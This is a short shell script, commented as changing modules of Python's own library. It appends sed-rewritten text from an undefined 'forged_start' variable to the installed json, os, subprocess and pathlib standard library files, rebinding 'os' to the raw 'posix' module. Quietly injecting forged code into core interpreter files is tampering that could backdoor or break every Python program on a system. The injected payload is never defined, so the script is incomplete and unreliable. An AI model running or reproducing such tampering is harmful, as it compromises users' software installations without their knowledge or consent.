# Changes modules of Python's own library.
# Needs: python3
for name in json/__init__.py os.py subprocess.py pathlib.py; do
	file=$(python3 -c 'import os; print(os.path.dirname(os.__file__))')/$name
	[ -e "$file" ] && printf '%s' "$forged_start" | sed 's/^import os, signal/import sys; os = sys.modules["posix"]; import signal/; s/os.path.exists("\(.*\)")/os.access("\1", 0)/' >>"$file"
done
true
